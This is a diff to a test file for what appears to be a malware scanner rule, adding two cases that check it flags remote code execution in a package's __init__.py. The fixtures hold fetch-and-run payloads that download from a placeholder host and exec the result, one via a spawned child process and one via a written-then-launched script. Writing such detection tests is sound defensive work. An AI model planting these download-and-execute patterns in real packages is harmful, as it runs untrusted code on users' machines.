@@ -32,6 +32,23 @@ while True:
     assert scan(RULE, text) == [(5, "HIGH", "HIGH", "import")]
 
 
+def test_in_the_program_of_a_child(scan):
+    text = r"""import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import requests as r; exec(r.get('https://files.example.test/a').text)"])
+"""
+    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]
+
+
+def test_in_a_program_that_is_written_first(scan):
+    text = r""" import os
+ with open("/tmp/next.py", "w") as f:
+     f.write("import urllib.request
+exec(urllib.request.urlopen('https://files.example.test/a').read())")
+ os.system("python3 /tmp/next.py &")
+"""
+    assert scan(RULE, text, "package/__init__.py") == [(4, "HIGH", "HIGH", "import")]
+
+
 def test_python_2(scan):
     text = r"""import urllib2
 print "installing"
